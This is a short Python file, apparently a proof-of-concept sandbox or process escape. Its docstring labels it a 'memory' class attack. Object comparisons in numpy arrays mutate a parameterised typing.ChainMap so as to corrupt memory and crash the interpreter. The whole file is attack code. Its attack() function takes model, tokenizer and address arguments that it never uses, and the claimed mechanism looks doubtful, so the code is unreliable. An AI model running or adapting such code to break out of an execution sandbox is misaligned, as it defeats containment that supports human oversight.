"""Class: memory. Source: own find. Escape: the process breaks. A name of `typing` with its parameters filled in is
called: the library's own ChainMap sets items of an array of objects past the guard, while numpy compares them."""

import typing

import numpy as np


class Left:
    def __lt__(self, other):
        writer.update({0: None})
        return NotImplemented


class Right:
    def __init__(self):
        self.big = [0] * 10

    def __gt__(self, other):
        return str(self.big)


writer = None


def attack(model, tokenizer, address):
    global writer
    for _ in range(1000):
        left = np.fromiter([Left()], dtype=object)
        right = np.fromiter([Right()], dtype=object)
        writer = typing.ChainMap[int, object](right)
        try:
            left < right
        except Exception:
            pass
